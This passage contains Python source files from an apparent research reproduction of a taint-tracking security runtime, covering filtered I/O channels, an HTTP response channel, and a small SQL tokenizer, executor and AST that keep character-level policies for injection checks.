        #: the socket server — which drains it piece by piece through
        #: :meth:`write`, so each piece is checked at this boundary just
        #: before it goes out as one chunked transfer-encoding frame.
        self.pending_stream = None

    # -- channel context helpers --------------------------------------------------

    def set_user(self, user: Optional[str], priv_chair: bool = False) -> None:
        """Annotate the channel with the authenticated user (the MoinMoin
        example of Figure 5 does this from ``process_client``)."""
        self.context["user"] = user
        if priv_chair:
            self.context["priv_chair"] = True

    # -- output -------------------------------------------------------------------------

    def _deliver(self, data: Any) -> None:
        if isinstance(data, bytes):
            data = bytes(data).decode("utf-8", "replace")
        self.chunks.append(str(data))

    def _transmit(self, data: Any) -> None:
        self.buffer.write(data)

    def _receive(self, size: Optional[int] = None) -> Any:
        return ""

    def write(self, data: Any) -> int:
        """Write response data; assertions are checked *before* buffering, so
        a violating chunk never reaches the buffer."""
        return super().write(to_tainted_str(data))

    def set_status(self, status: int) -> None:
        self.status = status

    def add_header(self, name: str, value: str) -> None:
        """Add a response header.

        Headers traverse the same filter chain as the body: an application
        can attach a response-splitting filter that rejects CR-LF sequences
        in header values derived from user input (Section 5.4).
        """
        value = self.filter.filter_write(to_tainted_str(value))
        self.headers.append((name, str(value)))

    # -- output buffering (Section 5.5) ------------------------------------------------------

    def start_buffering(self) -> None:
        self.buffer.start()

    def release_buffer(self) -> None:
        self.buffer.release()

    def discard_buffer(self, alternate: Optional[str] = None) -> None:
        if alternate is not None:
            # The alternate output still crosses the boundary: run it through
            # the filter chain like any other write.
            alternate = self.filter.filter_write(to_tainted_str(alternate))
        self.buffer.discard(str(alternate) if alternate is not None else None)

    # -- inspection ------------------------------------------------------------------------------

    def body(self) -> str:
        """The response body as received by the browser."""
        return "".join(self.chunks)

    def __contains__(self, needle: str) -> bool:
        return needle in self.body()
