"""Channel abstraction.

A *channel* is an I/O endpoint at the edge of the runtime: a socket, pipe,
HTTP response stream, outgoing e-mail, SQL connection, or the interpreter's
code-import path.  Every channel is guarded by a filter chain whose first
element is the channel type's default filter (Section 3.2.1), so that data
cannot leave or enter the runtime without traversing a filter object.

Applications access the channel's filter as ``channel.filter`` (the paper's
examples spell it ``sock.__filter``) and may mutate its ``context`` or stack
additional filters on top of the default one.
"""

from __future__ import annotations

from typing import Any, List, Optional

from ..core.context import FilterContext
from ..core.exceptions import ChannelError
from ..core.filter import Filter, FilterChain
from ..core.registry import FilterRegistry, resolve_registry


class Channel:
    """Base class for I/O channels.

    Every channel belongs to a :class:`~repro.core.registry.FilterRegistry`
    that supplies its default filter: pass ``registry=`` explicitly, or
    ``env=`` to use the owning environment's registry.  With neither, the
    channel falls back to the process-wide default registry (the deprecated
    pre-registry behaviour).
    """

    #: Channel type used to pick the default filter and reported in contexts.
    channel_type = "socket"

    def __init__(self, context: Optional[dict] = None, *,
                 registry: Optional[FilterRegistry] = None,
                 env=None):
        ctx = FilterContext(type=self.channel_type)
        if context:
            ctx.update(context)
        self.registry = resolve_registry(registry, env)
        self.env = env
        if env is not None:
            # Stamp the owning environment on the filter context (as an
            # attribute, not a mapping key) so policies can resolve
            # environment services and request-scoped helpers can ignore
            # foreign-environment requests.
            ctx.env = env
        default = self.registry.make_default_filter(self.channel_type, ctx)
        self.filter = FilterChain([default], ctx)
        self.context = ctx
        self.closed = False

    # -- filter management -----------------------------------------------------

    def add_filter(self, flt: Filter) -> None:
        """Stack an application filter on top of the default filter."""
        if flt.context is not self.context:
            merged = dict(self.context)
            merged.update(flt.context)
            flt.context = self.context
            self.context.update(merged)
        self.filter.append(flt)

    # -- data flow -----------------------------------------------------------------

    def write(self, data: Any) -> int:
        """Send ``data`` out through the channel (via the filter chain)."""
        self._check_open()
        data = self.filter.filter_write(data)
        self._transmit(data)
        return len(data) if hasattr(data, "__len__") else 1

    def read(self, size: Optional[int] = None) -> Any:
        """Receive data from the channel (via the filter chain)."""
        self._check_open()
        data = self._receive(size)
        return self.filter.filter_read(data)

    def close(self) -> None:
        self.closed = True

    # -- to be provided by subclasses --------------------------------------------------

    def _transmit(self, data: Any) -> None:
        raise NotImplementedError

    def _receive(self, size: Optional[int] = None) -> Any:
        raise NotImplementedError

    def _check_open(self) -> None:
        if self.closed:
            raise ChannelError(
                f"{type(self).__name__} is closed")

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.context.describe()})"


class CollectingChannel(Channel):
    """A channel that records everything transmitted through it.

    The recorded data represents what the outside world (browser, mail
    server, peer process) would have received; tests and the evaluation
    harness inspect it to decide whether an attack succeeded.
    """

    def __init__(self, context: Optional[dict] = None, *,
                 registry: Optional[FilterRegistry] = None,
                 env=None):
        super().__init__(context, registry=registry, env=env)
        self.sent: List[Any] = []
        self._incoming: List[Any] = []

    def _transmit(self, data: Any) -> None:
        self.sent.append(data)

    def feed(self, data: Any) -> None:
        """Queue data as if it arrived from the outside world."""
        self._incoming.append(data)

    def _receive(self, size: Optional[int] = None) -> Any:
        if not self._incoming:
            return ""
        return self._incoming.pop(0)

    def transcript(self) -> str:
        """Everything sent, concatenated as text (policy-free view — this is
        what actually crossed the boundary)."""
        pieces = []
        for chunk in self.sent:
            if isinstance(chunk, bytes):
                pieces.append(bytes(chunk).decode("utf-8", "replace"))
            else:
                pieces.append(str(chunk))
        return "".join(pieces)
