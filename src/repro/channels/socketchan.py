"""Socket and pipe channels.

These are the simplest boundary channels: whatever is written to them is
considered to have left the runtime.  The default filter invokes
``export_check`` on every policy of outgoing data (Figure 3); data read from
a socket can be marked untrusted by stacking a
:class:`repro.security.assertions.UntrustedInputFilter` on the channel (the
whois-response example of Section 6.3).
"""

from __future__ import annotations

from typing import Optional

from .base import CollectingChannel


class SocketChannel(CollectingChannel):
    """A network socket endpoint."""

    channel_type = "socket"

    def __init__(self, peer: Optional[str] = None,
                 context: Optional[dict] = None, *,
                 registry=None, env=None):
        ctx = dict(context or {})
        if peer is not None:
            ctx.setdefault("peer", peer)
        super().__init__(ctx, registry=registry, env=env)
        self.peer = peer


class PipeChannel(CollectingChannel):
    """A pipe to another process (e.g. the sendmail pipe of Figure 1)."""

    channel_type = "pipe"

    def __init__(self, command: Optional[str] = None,
                 context: Optional[dict] = None, *,
                 registry=None, env=None):
        ctx = dict(context or {})
        if command is not None:
            ctx.setdefault("command", command)
        super().__init__(ctx, registry=registry, env=env)
        self.command = command
