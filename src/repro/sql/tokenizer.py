"""SQL tokenizer.

Tokenizes a (possibly tainted) SQL query string while preserving the
character-level policies of every token: each token keeps the
:class:`~repro.tracking.tainted_str.TaintedStr` slice it was read from, so
the SQL-injection filter can ask "does any character of the query's
*structure* carry ``UntrustedData``?" (the second strategy of Section 5.3),
and the persistence filter can recover the policies of string literals.
"""

from __future__ import annotations

from typing import List, Optional

from ..core.exceptions import SQLError
from ..tracking.tainted_str import TaintedStr

KEYWORDS = frozenset("""
    select from where and or not insert into values update set delete create
    table drop if exists primary key null like in is order by asc desc limit
    offset integer int text real varchar char float distinct as count min max
    sum avg lower upper length unique default autoincrement index on explain
    using
""".split())

#: Token types.
KEYWORD = "KEYWORD"
IDENT = "IDENT"
STRING = "STRING"
NUMBER = "NUMBER"
OP = "OP"
PUNCT = "PUNCT"
PARAM = "PARAM"
EOF = "EOF"

#: Multi- and single-character operators, longest first.
_OPERATORS = ("<>", "!=", "<=", ">=", "=", "<", ">", "+", "-")
_PUNCTUATION = "(),.;*"


class Token:
    """One lexical token.

    ``text`` is the tainted source slice (including quotes for strings);
    ``value`` is the cooked value (unescaped string content, int/float for
    numbers, lower-cased text for keywords).
    """

    __slots__ = ("type", "value", "text", "start", "end")

    def __init__(self, type: str, value, text, start: int, end: int):
        self.type = type
        self.value = value
        self.text = text
        self.start = start
        self.end = end

    def matches(self, type: str, value=None) -> bool:
        if self.type != type:
            return False
        return value is None or self.value == value

    def __repr__(self) -> str:
        return f"Token({self.type}, {self.value!r})"


def tokenize(sql) -> List[Token]:
    """Tokenize ``sql`` into a list of tokens ending with an EOF token."""
    if not isinstance(sql, TaintedStr):
        sql = TaintedStr(sql)
    tokens: List[Token] = []
    index = 0
    length = len(sql)
    text = str(sql)

    while index < length:
        char = text[index]

        if char.isspace():
            index += 1
            continue

        if text.startswith("--", index):
            newline = text.find("\n", index)
            index = length if newline < 0 else newline + 1
            continue

        if text.startswith("/*", index):
            end = text.find("*/", index + 2)
            if end < 0:
                raise SQLError("unterminated comment")
            index = end + 2
            continue

        if char == "'":
            token, index = _read_string(sql, text, index)
            tokens.append(token)
            continue

        if char.isdigit() or (
            char == "." and index + 1 < length and text[index + 1].isdigit()
        ):
            token, index = _read_number(sql, text, index)
            tokens.append(token)
            continue

        if char.isalpha() or char == "_" or char == "`":
            token, index = _read_word(sql, text, index)
            tokens.append(token)
            continue

        if char == ":":
            start = index
            index += 1
            while index < length and (text[index].isalnum() or text[index] == "_"):
                index += 1
            if index == start + 1:
                raise SQLError(
                    f"expected parameter name after ':' at position {start}")
            tokens.append(Token(PARAM, text[start + 1:index],
                                sql[start:index], start, index))
            continue

        matched_op: Optional[str] = None
        for op in _OPERATORS:
            if text.startswith(op, index):
                matched_op = op
                break
        if matched_op:
            tokens.append(Token(OP, "!=" if matched_op == "<>" else matched_op,
                                sql[index:index + len(matched_op)],
                                index, index + len(matched_op)))
            index += len(matched_op)
            continue

        if char in _PUNCTUATION:
            tokens.append(Token(PUNCT, char, sql[index:index + 1],
                                index, index + 1))
            index += 1
            continue

        raise SQLError(f"unexpected character {char!r} at position {index}")

    tokens.append(Token(EOF, None, TaintedStr(""), length, length))
    return tokens


def _read_string(sql: TaintedStr, text: str, index: int):
    """Read a single-quoted string literal with ``''`` escaping.

    The cooked value is assembled from tainted slices of the source so that
    the literal's characters keep their policies.
    """
    start = index
    index += 1
    pieces = []
    while True:
        if index >= len(text):
            raise SQLError("unterminated string literal")
        char = text[index]
        if char == "'":
            if index + 1 < len(text) and text[index + 1] == "'":
                pieces.append(sql[index:index + 1])
                index += 2
                continue
            index += 1
            break
        pieces.append(sql[index:index + 1])
        index += 1
    value = TaintedStr("")
    for piece in pieces:
        value = value + piece
    return Token(STRING, value, sql[start:index], start, index), index


def _read_number(sql: TaintedStr, text: str, index: int):
    start = index
    seen_dot = False
    while index < len(text) and (
        text[index].isdigit() or (text[index] == "." and not seen_dot)
    ):
        if text[index] == ".":
            seen_dot = True
        index += 1
    literal = text[start:index]
    value = float(literal) if seen_dot else int(literal)
    return Token(NUMBER, value, sql[start:index], start, index), index


def _read_word(sql: TaintedStr, text: str, index: int):
    start = index
    quoted = text[index] == "`"
    if quoted:
        index += 1
        start = index
        while index < len(text) and text[index] != "`":
            index += 1
        word = text[start:index]
        end = index + 1
        return Token(IDENT, word, sql[start - 1:end], start - 1, end), end
    while index < len(text) and (text[index].isalnum() or text[index] == "_"):
        index += 1
    word = text[start:index]
    lowered = word.lower()
    if lowered in KEYWORDS:
        return Token(KEYWORD, lowered, sql[start:index], start, index), index
    return Token(IDENT, word, sql[start:index], start, index), index
