"""Plan executor and SQL expression evaluation.

This module owns the *semantics* of the SQL dialect: comparison coercion,
LIKE matching, NULL handling, sort keys, scalar and aggregate functions.
The executor walks plan trees from :mod:`repro.sql.planner`; the engine's
retained reference scan path calls the very same helpers, which is what
makes the plan-vs-naive differential tests meaningful — the two paths can
only differ in *which rows they visit*, never in how a visited row is
judged.

Row streams are ``(position, row)`` pairs in ascending position order, so
index-driven scans produce rows in exactly the storage order a sequential
scan would, and UPDATE/DELETE plans can collect positions before mutating.
"""

from __future__ import annotations

import re
from functools import lru_cache
from typing import Any, Dict, Iterator, List, Optional, Tuple

from ..core.exceptions import SQLError
from . import nodes
from .indexes import UNBOUNDED
from .planner import (
    Aggregate,
    Filter,
    IndexLookup,
    IndexRange,
    Plan,
    Project,
    ScalarSelect,
    SeqScan,
    Slice,
    Sort,
)

__all__ = [
    "Executor",
    "evaluate",
    "stored_value",
    "sql_equal",
    "sql_like",
    "coerce_pair",
    "sort_key",
]


# -- value semantics ------------------------------------------------------------


def stored_value(value):
    """Values stored in a table are plain Python objects.

    The engine stands in for an external database server: data crossing
    into it loses its in-runtime policy annotations, exactly like data sent
    to a real MySQL would.  Policies survive the round trip only through
    the policy columns maintained by
    :class:`repro.channels.sqlchan.Database` — which is the point of the
    paper's persistent-policy mechanism.
    """
    from ..tracking.propagation import strip_policies

    return strip_policies(value)


def coerce_pair(left, right):
    """Coerce operands for comparison (numeric strings compare numerically
    with numbers, everything else compares as strings)."""
    if isinstance(left, (int, float)) and isinstance(right, (int, float)):
        return left, right
    if isinstance(left, (int, float)) or isinstance(right, (int, float)):
        try:
            return float(left), float(right)
        except (TypeError, ValueError):
            return str(left), str(right)
    return str(left), str(right)


def sql_equal(left, right) -> bool:
    if left is None or right is None:
        return False
    left, right = coerce_pair(left, right)
    return left == right


@lru_cache(maxsize=512)
def _like_regex(pattern: str):
    """Compile a SQL LIKE pattern by translating it character-by-character:
    ``%`` → ``.*``, ``_`` → ``.``, everything else escaped literally.

    Escaping each literal character individually (instead of
    ``re.escape``-then-``replace``, which mangles patterns on Python
    versions where ``re.escape`` escapes ``%``/``_``) makes metacharacters
    like ``.``, ``+`` or ``\\`` in the pattern inert — ``'50%+'`` matches
    ``50 anything +``, not a regex repetition.  DOTALL lets the wildcards
    cross newlines, as SQL LIKE does.
    """
    parts = []
    for char in pattern:
        if char == "%":
            parts.append(".*")
        elif char == "_":
            parts.append(".")
        else:
            parts.append(re.escape(char))
    return re.compile("".join(parts), re.IGNORECASE | re.DOTALL)


def sql_like(value, pattern) -> bool:
    if value is None or pattern is None:
        return False
    return _like_regex(str(pattern)).fullmatch(str(value)) is not None


def sort_key(value):
    """Total ordering across NULLs, numbers and strings.

    NaN is mapped to ``-inf`` so ``sorted`` sees a consistent total order
    (a raw NaN key makes comparison-based sorting ill-defined); ties are
    broken by the sort's stability, so the ordering stays deterministic.
    """
    if value is None:
        return (0, "", 0.0)
    if isinstance(value, (int, float)):
        key = float(value)
        if key != key:
            key = float("-inf")
        return (1, "", key)
    return (2, str(value), 0.0)


# -- expression evaluation ------------------------------------------------------


def evaluate(expr: nodes.Expr, row: Optional[Dict[str, Any]], table) -> Any:
    """Evaluate ``expr`` against ``row`` (a dict) of ``table`` (an engine
    Table, used only to distinguish unknown columns from NULL cells)."""
    if isinstance(expr, nodes.Literal):
        return expr.value
    if isinstance(expr, nodes.Param):
        raise SQLError(f"unbound parameter :{expr.name}")
    if isinstance(expr, nodes.ColumnRef):
        if row is None:
            raise SQLError(f"column {expr.name!r} is not allowed in this context")
        if expr.name in row:
            return row[expr.name]
        if table is not None and not table.has_column(expr.name):
            raise SQLError(f"no such column: {expr.name}")
        return None
    if isinstance(expr, nodes.UnaryOp):
        value = evaluate(expr.operand, row, table)
        if expr.op == "not":
            return not bool(value)
        raise SQLError(f"unsupported unary operator {expr.op}")
    if isinstance(expr, nodes.BinaryOp):
        return _binary(expr, row, table)
    if isinstance(expr, nodes.InList):
        value = evaluate(expr.operand, row, table)
        members = [evaluate(item, row, table) for item in expr.items]
        found = any(sql_equal(value, member) for member in members)
        return (not found) if expr.negated else found
    if isinstance(expr, nodes.IsNull):
        value = evaluate(expr.operand, row, table)
        return (value is not None) if expr.negated else (value is None)
    if isinstance(expr, nodes.FuncCall):
        return _scalar_function(expr, row, table)
    if isinstance(expr, nodes.Star):
        raise SQLError("'*' is not allowed in this context")
    raise SQLError(f"cannot evaluate {type(expr).__name__}")


def _binary(expr: nodes.BinaryOp, row, table) -> Any:
    op = expr.op
    if op == "and":
        return bool(evaluate(expr.left, row, table)) and bool(
            evaluate(expr.right, row, table)
        )
    if op == "or":
        return bool(evaluate(expr.left, row, table)) or bool(
            evaluate(expr.right, row, table)
        )
    left = evaluate(expr.left, row, table)
    right = evaluate(expr.right, row, table)
    if op == "=":
        return sql_equal(left, right)
    if op == "!=":
        return not sql_equal(left, right)
    if op == "like":
        return sql_like(left, right)
    if left is None or right is None:
        return False
    left, right = coerce_pair(left, right)
    if op == "<":
        return left < right
    if op == "<=":
        return left <= right
    if op == ">":
        return left > right
    if op == ">=":
        return left >= right
    raise SQLError(f"unsupported operator {op!r}")


def _scalar_function(expr: nodes.FuncCall, row, table) -> Any:
    args = [evaluate(arg, row, table) for arg in expr.args]
    name = expr.name
    if name == "lower":
        return None if args[0] is None else str(args[0]).lower()
    if name == "upper":
        return None if args[0] is None else str(args[0]).upper()
    if name == "length":
        return None if args[0] is None else len(str(args[0]))
    if name in ("count", "min", "max", "sum", "avg"):
        raise SQLError(f"aggregate {name}() not allowed in this context")
    raise SQLError(f"unknown function {name!r}")


def evaluate_aggregate(expr: nodes.Expr, rows: List[Dict[str, Any]], table) -> Any:
    if isinstance(expr, nodes.FuncCall):
        name = expr.name
        if name == "count":
            if expr.star or not expr.args:
                return len(rows)
            values = [evaluate(expr.args[0], row, table) for row in rows]
            return sum(1 for v in values if v is not None)
        if name in ("min", "max", "sum", "avg"):
            values = [evaluate(expr.args[0], row, table) for row in rows]
            values = [v for v in values if v is not None]
            if not values:
                return None
            if name == "min":
                return min(values)
            if name == "max":
                return max(values)
            if name == "sum":
                return sum(values)
            return sum(values) / len(values)
    # Non-aggregate expression in an aggregate query: evaluate against the
    # first matching row (MySQL-ish permissiveness).
    return evaluate(expr, rows[0] if rows else {}, table)


# -- plan execution -------------------------------------------------------------

Pair = Tuple[int, Dict[str, Any]]


class Executor:
    """Runs plan trees against an engine's tables.

    The engine is duck-typed: the executor needs ``engine.table(name)``
    returning an object with ``rows``, ``column_names``, ``has_column`` and
    ``indexes``.  Locking and durability stay with the caller — the engine
    invokes the executor with the statement's table locks already held.
    """

    def __init__(self, engine):
        self.engine = engine

    # -- SELECT plans ------------------------------------------------------

    def execute(self, plan: Plan):
        """Execute a SELECT-shaped plan, returning an engine ``Result``."""
        from .engine import Result

        if isinstance(plan, ScalarSelect):
            columns = [item.output_name for item in plan.items]
            values = [evaluate(item.expr, {}, None) for item in plan.items]
            return Result(columns, [values])

        if isinstance(plan, Aggregate):
            table = self.engine.table(plan.table)
            rows = [row for _, row in self.scan(plan.children[0])]
            columns = [item.output_name for item in plan.items]
            values = [
                evaluate_aggregate(item.expr, rows, table) for item in plan.items
            ]
            return Result(columns, [values])

        if isinstance(plan, Project):
            table = self.engine.table(plan.table)
            pairs = self.collect(plan.children[0])

            columns: List[str] = []
            for item in plan.items:
                if isinstance(item.expr, nodes.Star):
                    columns.extend(table.column_names)
                else:
                    columns.append(item.output_name)

            result_rows: List[List[Any]] = []
            seen = set()
            for _, row in pairs:
                values: List[Any] = []
                for item in plan.items:
                    if isinstance(item.expr, nodes.Star):
                        values.extend(row[name] for name in table.column_names)
                    else:
                        values.append(evaluate(item.expr, row, table))
                if plan.distinct:
                    # Deduplication happens after LIMIT, matching the
                    # reference scan path's (unusual) order of operations.
                    key = tuple(str(v) for v in values)
                    if key in seen:
                        continue
                    seen.add(key)
                result_rows.append(values)
            return Result(columns, result_rows)

        raise SQLError(f"cannot execute plan {type(plan).__name__}")

    # -- row streams -------------------------------------------------------

    def collect(self, plan: Plan) -> List[Pair]:
        """Materialize a row stream, applying Sort/Slice stages."""
        if isinstance(plan, Sort):
            pairs = self.collect(plan.children[0])
            table = self.engine.table(plan.table)
            for ordering in reversed(plan.order_by):
                pairs = sorted(
                    pairs,
                    key=lambda pair: sort_key(
                        evaluate(ordering.expr, pair[1], table)
                    ),
                    reverse=ordering.descending,
                )
            return pairs
        if isinstance(plan, Slice):
            pairs = self.collect(plan.children[0])
            if plan.offset:
                pairs = pairs[plan.offset:]
            if plan.limit is not None:
                pairs = pairs[: plan.limit]
            return pairs
        return list(self.scan(plan))

    def scan(self, plan: Plan) -> Iterator[Pair]:
        """Yield ``(position, row)`` pairs in ascending position order."""
        if isinstance(plan, Filter):
            child = plan.children[0]
            table = self.engine.table(child.table)
            predicate = plan.predicate
            for pair in self.scan(child):
                if bool(evaluate(predicate, pair[1], table)):
                    yield pair
            return
        if isinstance(plan, SeqScan):
            table = self.engine.table(plan.table)
            yield from enumerate(table.rows)
            return
        if isinstance(plan, IndexLookup):
            table = self.engine.table(plan.table)
            index = table.indexes.get(plan.index)
            if index is None:
                # The index vanished between planning and execution (plans
                # can be re-run); degrade to a full scan — the Filter above
                # keeps the results identical.
                yield from enumerate(table.rows)
                return
            probes = [evaluate(probe, {}, None) for probe in plan.probes]
            rows = table.rows
            for position in index.lookup_eq(probes):
                yield position, rows[position]
            return
        if isinstance(plan, IndexRange):
            table = self.engine.table(plan.table)
            index = table.indexes.get(plan.index)
            if index is None or index.kind != "sorted":
                yield from enumerate(table.rows)
                return
            lo = UNBOUNDED if plan.lo is None else evaluate(plan.lo, {}, None)
            hi = UNBOUNDED if plan.hi is None else evaluate(plan.hi, {}, None)
            rows = table.rows
            for position in index.lookup_range(lo, hi):
                yield position, rows[position]
            return
        raise SQLError(f"cannot scan plan {type(plan).__name__}")
