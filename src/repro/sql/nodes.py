"""SQL abstract syntax tree nodes.

The parser produces these nodes; the engine executes them; the persistence
filter (:mod:`repro.channels.sqlchan`) rewrites them to add policy columns.
Every node can regenerate SQL text via ``to_sql()``; literal values keep
their taint, so a regenerated query's characters carry the same policies as
the original (used by tests and by applications that log queries).
"""

from __future__ import annotations

from typing import Optional, Sequence, Tuple

from ..tracking.tainted_str import TaintedStr
from ..tracking.propagation import concat, to_tainted_str


def quote_literal(value) -> TaintedStr:
    """Render a Python value as a SQL literal, preserving taint."""
    if value is None:
        return TaintedStr("NULL")
    if isinstance(value, bool):
        return TaintedStr("1" if value else "0")
    if isinstance(value, (int, float)):
        return to_tainted_str(value)
    text = to_tainted_str(value)
    return concat("'", text.replace("'", "''"), "'")


class Node:
    """Base class for AST nodes."""

    def to_sql(self) -> TaintedStr:
        raise NotImplementedError

    def __repr__(self) -> str:
        return f"{type(self).__name__}({str(self.to_sql())!r})"

    def __eq__(self, other) -> bool:
        return (type(self) is type(other)
                and str(self.to_sql()) == str(other.to_sql()))

    def __hash__(self) -> int:
        return hash((type(self).__name__, str(self.to_sql())))


# -- expressions ---------------------------------------------------------------


class Expr(Node):
    pass


class Literal(Expr):
    def __init__(self, value):
        self.value = value

    def to_sql(self) -> TaintedStr:
        return quote_literal(self.value)


class ColumnRef(Expr):
    def __init__(self, name: str, table: Optional[str] = None):
        self.name = str(name)
        self.table = str(table) if table else None

    def to_sql(self) -> TaintedStr:
        if self.table:
            return TaintedStr(f"{self.table}.{self.name}")
        return TaintedStr(self.name)


class Param(Expr):
    """A named placeholder (``:name``) bound at execution time.

    Parameters survive planning — a prepared plan shows ``:name`` in its
    EXPLAIN text — and are substituted with :class:`Literal` values (taint
    and all) by :func:`repro.sql.planner.bind_parameters` just before the
    statement runs."""

    def __init__(self, name: str):
        self.name = str(name)

    def to_sql(self) -> TaintedStr:
        return TaintedStr(f":{self.name}")


class Star(Expr):
    def __init__(self, table: Optional[str] = None):
        self.table = table

    def to_sql(self) -> TaintedStr:
        return TaintedStr(f"{self.table}.*" if self.table else "*")


class UnaryOp(Expr):
    def __init__(self, op: str, operand: Expr):
        self.op = op.lower()
        self.operand = operand

    def to_sql(self) -> TaintedStr:
        return concat(self.op.upper(), " ", self.operand.to_sql())


class BinaryOp(Expr):
    def __init__(self, op: str, left: Expr, right: Expr):
        self.op = op.lower()
        self.left = left
        self.right = right

    def to_sql(self) -> TaintedStr:
        return concat(
            "(", self.left.to_sql(), " ", self.op.upper(), " ", self.right.to_sql(), ")"
        )


class InList(Expr):
    def __init__(self, operand: Expr, items: Sequence[Expr], negated: bool = False):
        self.operand = operand
        self.items = list(items)
        self.negated = negated

    def to_sql(self) -> TaintedStr:
        rendered = TaintedStr(", ").join(i.to_sql() for i in self.items)
        keyword = "NOT IN" if self.negated else "IN"
        return concat(self.operand.to_sql(), f" {keyword} (", rendered, ")")


class IsNull(Expr):
    def __init__(self, operand: Expr, negated: bool = False):
        self.operand = operand
        self.negated = negated

    def to_sql(self) -> TaintedStr:
        suffix = " IS NOT NULL" if self.negated else " IS NULL"
        return concat(self.operand.to_sql(), suffix)


class FuncCall(Expr):
    def __init__(self, name: str, args: Sequence[Expr], star: bool = False):
        self.name = name.lower()
        self.args = list(args)
        self.star = star

    def to_sql(self) -> TaintedStr:
        if self.star:
            return TaintedStr(f"{self.name.upper()}(*)")
        rendered = TaintedStr(", ").join(a.to_sql() for a in self.args)
        return concat(self.name.upper(), "(", rendered, ")")


# -- statements -------------------------------------------------------------------


class Statement(Node):
    pass


class ColumnDef(Node):
    def __init__(self, name: str, type: str = "TEXT", constraints: Sequence[str] = ()):
        self.name = str(name)
        self.type = str(type).upper()
        self.constraints = tuple(constraints)

    def to_sql(self) -> TaintedStr:
        extra = (" " + " ".join(self.constraints)) if self.constraints else ""
        return TaintedStr(f"{self.name} {self.type}{extra}")


class CreateTable(Statement):
    def __init__(
        self, table: str, columns: Sequence[ColumnDef], if_not_exists: bool = False
    ):
        self.table = str(table)
        self.columns = list(columns)
        self.if_not_exists = if_not_exists

    def to_sql(self) -> TaintedStr:
        cols = TaintedStr(", ").join(c.to_sql() for c in self.columns)
        clause = "IF NOT EXISTS " if self.if_not_exists else ""
        return concat(f"CREATE TABLE {clause}{self.table} (", cols, ")")


class DropTable(Statement):
    def __init__(self, table: str, if_exists: bool = False):
        self.table = str(table)
        self.if_exists = if_exists

    def to_sql(self) -> TaintedStr:
        clause = "IF EXISTS " if self.if_exists else ""
        return TaintedStr(f"DROP TABLE {clause}{self.table}")


class CreateIndex(Statement):
    def __init__(
        self,
        name: str,
        table: str,
        column: str,
        kind: str = "sorted",
        if_not_exists: bool = False,
    ):
        self.name = str(name)
        self.table = str(table)
        self.column = str(column)
        self.kind = str(kind).lower()
        self.if_not_exists = if_not_exists

    def to_sql(self) -> TaintedStr:
        clause = "IF NOT EXISTS " if self.if_not_exists else ""
        using = f" USING {self.kind.upper()}"
        return TaintedStr(
            f"CREATE INDEX {clause}{self.name} ON {self.table} "
            f"({self.column}){using}")


class DropIndex(Statement):
    def __init__(self, name: str, if_exists: bool = False):
        self.name = str(name)
        self.if_exists = if_exists

    def to_sql(self) -> TaintedStr:
        clause = "IF EXISTS " if self.if_exists else ""
        return TaintedStr(f"DROP INDEX {clause}{self.name}")


class Explain(Statement):
    """``EXPLAIN <statement>``: plan the wrapped statement and return its
    plan text (one line per row) instead of executing it."""

    def __init__(self, statement: Statement):
        self.statement = statement

    @property
    def table(self) -> Optional[str]:
        # Mirrors the wrapped statement so lock scoping (which keys off a
        # statement's ``table`` attribute) covers planning-time reads of
        # the table's index catalog.
        return getattr(self.statement, "table", None)

    def to_sql(self) -> TaintedStr:
        return concat("EXPLAIN ", self.statement.to_sql())


class Insert(Statement):
    def __init__(
        self, table: str, columns: Sequence[str], rows: Sequence[Sequence[Expr]]
    ):
        self.table = str(table)
        self.columns = [str(c) for c in columns]
        self.rows = [list(row) for row in rows]

    def to_sql(self) -> TaintedStr:
        cols = ", ".join(self.columns)
        rendered_rows = []
        for row in self.rows:
            rendered_rows.append(
                concat("(", TaintedStr(", ").join(e.to_sql() for e in row), ")")
            )
        values = TaintedStr(", ").join(rendered_rows)
        return concat(f"INSERT INTO {self.table} ({cols}) VALUES ", values)


class OrderBy(Node):
    def __init__(self, expr: Expr, descending: bool = False):
        self.expr = expr
        self.descending = descending

    def to_sql(self) -> TaintedStr:
        return concat(self.expr.to_sql(), " DESC" if self.descending else " ASC")


class SelectItem(Node):
    def __init__(self, expr: Expr, alias: Optional[str] = None):
        self.expr = expr
        self.alias = alias

    def to_sql(self) -> TaintedStr:
        if self.alias:
            return concat(self.expr.to_sql(), f" AS {self.alias}")
        return self.expr.to_sql()

    @property
    def output_name(self) -> str:
        if self.alias:
            return self.alias
        if isinstance(self.expr, ColumnRef):
            return self.expr.name
        return str(self.expr.to_sql())


class Select(Statement):
    def __init__(
        self,
        items: Sequence[SelectItem],
        table: Optional[str],
        where: Optional[Expr] = None,
        order_by: Sequence[OrderBy] = (),
        limit: Optional[int] = None,
        offset: Optional[int] = None,
        distinct: bool = False,
    ):
        self.items = list(items)
        self.table = str(table) if table else None
        self.where = where
        self.order_by = list(order_by)
        self.limit = limit
        self.offset = offset
        self.distinct = distinct

    def to_sql(self) -> TaintedStr:
        pieces = [TaintedStr("SELECT ")]
        if self.distinct:
            pieces.append(TaintedStr("DISTINCT "))
        pieces.append(TaintedStr(", ").join(i.to_sql() for i in self.items))
        if self.table:
            pieces.append(TaintedStr(f" FROM {self.table}"))
        if self.where is not None:
            pieces.append(concat(" WHERE ", self.where.to_sql()))
        if self.order_by:
            pieces.append(
                concat(
                    " ORDER BY ",
                    TaintedStr(", ").join(o.to_sql() for o in self.order_by),
                )
            )
        if self.limit is not None:
            pieces.append(TaintedStr(f" LIMIT {self.limit}"))
        if self.offset is not None:
            pieces.append(TaintedStr(f" OFFSET {self.offset}"))
        return concat(*pieces)


class Update(Statement):
    def __init__(
        self,
        table: str,
        assignments: Sequence[Tuple[str, Expr]],
        where: Optional[Expr] = None,
    ):
        self.table = str(table)
        self.assignments = [(str(col), expr) for col, expr in assignments]
        self.where = where

    def to_sql(self) -> TaintedStr:
        sets = TaintedStr(", ").join(
            concat(col, " = ", expr.to_sql())
            for col, expr in self.assignments)
        query = concat(f"UPDATE {self.table} SET ", sets)
        if self.where is not None:
            query = concat(query, " WHERE ", self.where.to_sql())
        return query


class Delete(Statement):
    def __init__(self, table: str, where: Optional[Expr] = None):
        self.table = str(table)
        self.where = where

    def to_sql(self) -> TaintedStr:
        query = TaintedStr(f"DELETE FROM {self.table}")
        if self.where is not None:
            query = concat(query, " WHERE ", self.where.to_sql())
        return query
