"""Secondary indexes for the SQL engine.

An index is a **candidate generator**, not an oracle: ``lookup_eq`` /
``lookup_range`` return a sorted superset of the row positions that can
